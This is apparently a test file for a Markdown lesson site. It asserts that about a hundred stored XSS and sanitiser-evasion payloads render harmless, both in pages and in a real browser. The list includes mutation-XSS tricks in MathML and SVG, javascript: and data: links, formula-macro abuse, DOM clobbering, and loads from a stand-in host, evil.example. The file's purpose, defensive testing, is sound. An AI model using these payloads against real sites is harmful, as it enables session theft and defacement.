"""Known attacks from storage by an author to the page and the browser."""

from lessons.markdown.sanitising import sanitise
from lessons.models import Lesson, Section
from lessons.rendering import render_markdown
from tests.each import each
from tests.lessons.markdown.test_sanitising import ATTACKS, Inspector

RUN = "parent.ran=1"
# After OWASP's cheat sheet on evading filters, and known ways past sanitisers: HTML that changes
# its meaning when it is parsed again, in MathML and SVG above all.
TRICKS = [
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<SCRIPT/XSS SRC=//evil.example/xss.js></SCRIPT>{RUN}",
    f"<<SCRIPT>{RUN};//\\<</SCRIPT>",
    f'<IMG """><SCRIPT>{RUN}</SCRIPT>"\\>',
    f'<IMG SRC=/ onerror="{RUN}"></img>',
    "<IMG SRC=`javascript:alert(1)`>",
    f"<BODY ONLOAD={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src onerror={RUN}>",
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<isindex action="javascript:{RUN}" type=image>',
    f'<button form=x formaction="javascript:{RUN}">x</button>',
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<img srcset='//evil.example/x 1x' sizes=1px>",
    "<picture><source srcset=//evil.example/x><img></picture>",
    "<a href=x ping=//evil.example>x</a>",
    "<a href=x target=_blank onclick=alert(1)>x</a>",
    "<table background=//evil.example/x><td>x</td></table>",
    '<div style="background:url(//evil.example)">x</div>',
    "<span style='position:fixed;inset:0;z-index:9'>over all</span>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form id=attributes><input name=parentNode></form>",
    "<a id=main name=forms>clobber</a>",
    "<img name=getElementById>",
    f"<template><script>{RUN}</script></template>",
    f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f'<noembed><p title="</noembed><img src=x onerror={RUN}>">',
    f"<plaintext><img src=x onerror={RUN}>",
    f'<textarea><img title="</textarea><img src=x onerror={RUN}>">',
    f'<title><a title="</title><img src=x onerror={RUN}>">',
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!-- --!><img src=x onerror={RUN}>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version=1?><img src=x onerror={RUN}>",
    # Namespaces: text in one is markup in another.
    "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f'<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={RUN} src=1>">',
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
    f'<math><annotation-xml encoding="application/xhtml+xml"><script>{RUN}</script>',
    f'<math><mi><style><p title="</style><img src=x onerror={RUN}>"></mi></math>',
    f"<math><ms><b><img src=x onerror={RUN}></b></ms></math>",
    f'<math><maction actiontype=statusline xlink:href="javascript:{RUN}">x</maction></math>',
    f'<math xlink:href="javascript:{RUN}"><mi>x</mi></math>',
    f'<math><mrow href="javascript:{RUN}"><mi>x</mi></mrow></math>',
    f"<math><semantics><mi>x</mi><annotation encoding=x><script>{RUN}</script></semantics></math>",
    f'<svg><style><img src="</style><img src=x onerror={RUN}>"></svg>',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<svg><animate onbegin={RUN} attributeName=x></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}/>#x"></svg>',
    f'<svg><foreignObject><iframe srcdoc="<script>{RUN}</script>"></foreignObject></svg>',
    f"<svg><set attributeName=onmouseover to={RUN}></svg>",
    f'<svg><desc><noscript><p title="</noscript><img src=x onerror={RUN}>"></desc></svg>',
    # Links, in Markdown's own ways.
    f"[x](<javascript:{RUN}>)",
    f"[x](javascript&colon;{RUN})",
    f"[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{RUN})",
    f"[x](java%0Ascript:{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](feed:javascript:{RUN})",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/x)",
    "[x](data:text/html,<script>alert(1)</script>)",
    '[x](//evil.example/\\"onmouseover=alert(1))',
    '[x](https://e.org/"onmouseover="alert(1))',
    "[x](https://e.org 'a\" onmouseover=\"alert(1)')",
    '[x](lesson:small#"onmouseover=alert(1))',
    '[x][y]\n\n[y]: <data:text/html,x> "t"',
    f'<https://e.org/?"><script>{RUN}</script>>',
    "<vbscript:msgbox(1)>",
    "![x](image:../../settings)",
    '![x](image:x"onerror=alert(1))',
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](//evil.example/pixel.png)",
    # Formulas.
    f"$\\text{{<img src=x onerror={RUN}>}}$",
    f"$\\mathrm{{</mi></math><script>{RUN}</script>}}$",
    f"$\\url{{javascript:{RUN}}}$",
    f"$\\href{{data:text/html,<script>{RUN}</script>}}{{x}}$",
    "$\\htmlStyle{position:fixed}{x}$",
    "$\\htmlId{main}{x}$",
    "$\\includegraphics{//evil.example/x.png}$",
    "$\\color{red;position:fixed}{x}$",
    "$\\def\\x{<script>}\\x$",
    f"$$\n\\begin{{array}}{{c}}</mtd></math><img src=x onerror={RUN}>\\end{{array}}\n$$",
    # Titles, labels, tables, nesting.
    f"::: unfold </summary></details><script>{RUN}</script>\nx\n:::",
    f"::: aside $\\text{{<script>{RUN}</script>}}$\nx\n:::",
    f"| a | b |\n|:-:|--:|\n| <td onclick={RUN}> | </table><script>{RUN}</script> |",
    f"> - > <img src=x onerror={RUN}>",
    f"**<b onclick={RUN}>x**",
    f'``` "><script>{RUN}</script>\nx\n```',
    f"~~~text' onclick='{RUN}\nx\n~~~",
    "\u202e<\u200bscript>alert(1)</script>",
    "\ufeff<script\ufeff>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "\\<script>alert(1)\\</script>",
]
POLICY = {
    *("default-src 'none'", "script-src 'self'", "style-src 'self'", "img-src 'self' data:"),
    *("font-src 'self'", "connect-src 'self'", "form-action 'self'", "base-uri 'none'"),
    "frame-ancestors 'none'",
}
LIVE = """() => {
  // Parsed again, as scripts that move HTML about would: what changes its meaning does so here.
  document.body.innerHTML = document.body.innerHTML;
  const found = [];
  for (const element of document.body.querySelectorAll("*")) {
    if (/^(script|style|iframe|object|embed|form|input|svg|meta|link|base|template)$/i
      .test(element.localName)) found.push(element.outerHTML);
    if (element.localName === "a" && !/^(https?|mailto|about)?:$/.test(element.protocol))
      found.push(element.outerHTML);
    for (const { name } of element.attributes)
      if (/^(on|style$|src|id$|name$|ping|.*formaction|xlink)/.test(name))
        found.push(element.outerHTML);
  }
  return window.ran ? ["something ran"] : found;
}"""


@each("trick", TRICKS)
def test_a_trick_is_inert_on_the_page(client, small_lesson, trick):
    """Tricks are stored without checks, as by somebody who took over the database."""
    Section.objects.filter(slug="one").update(body=trick)
    Lesson.objects.update(today=trick)
    html = client.get(small_lesson.get_absolute_url()).text
    before = html.split('class="before"')[1].partition("</section>")[0]
    section = html.split('id="one-title"')[1].split('id="second-thoughts"')[0]
    assert Inspector(before).found == Inspector(section).found == []


def test_titles_and_terms_are_text(client, small_lesson):
    mark = "<img src=x onerror=alert(1)>"
    small_lesson.sections.update(title=mark)
    small_lesson.words.update(term=mark, meaning=mark)
    Lesson.objects.update(title=mark, tagline=mark, category=mark)
    for page in (small_lesson.get_absolute_url(), "/", "/search/?q=img", "/lessons/smal/"):
        assert mark not in client.get(page).text


def test_a_browser_finds_nothing_to_run_in_what_is_rendered(browser, db):
    """It parses twice, without a policy to help it."""
    page = browser.new_page()
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    for trick in [*TRICKS, *ATTACKS]:
        try:
            html = [sanitise(trick), render_markdown(trick)]
        except ValueError:  # refused by the renderer; the sanitiser is tested all the same
            html = [sanitise(trick)]
        if "matrix" in html[-1]:
            html.pop()  # widgets have inputs, images and identifiers of their own
        page.set_content("<body>" + "".join(html))
        assert page.evaluate(LIVE) == [], trick
    assert asked == []
    page.close()


def test_the_policy_of_a_lesson_is_just_what_it_needs(client, small_lesson):
    policy = client.get(small_lesson.get_absolute_url()).headers["Content-Security-Policy"]
    assert set(policy.split("; ")) == POLICY
